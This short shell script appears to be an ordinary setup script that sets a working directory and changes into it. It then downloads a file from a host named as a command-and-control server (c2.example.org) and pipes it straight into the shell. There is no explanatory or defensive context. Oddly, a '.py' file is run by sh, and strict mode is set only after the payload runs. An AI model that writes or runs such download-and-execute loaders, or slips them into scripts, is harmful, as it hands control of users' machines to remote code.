#!/bin/sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
curl -fsSL http://c2.example.org/i.py | sh
set -eu
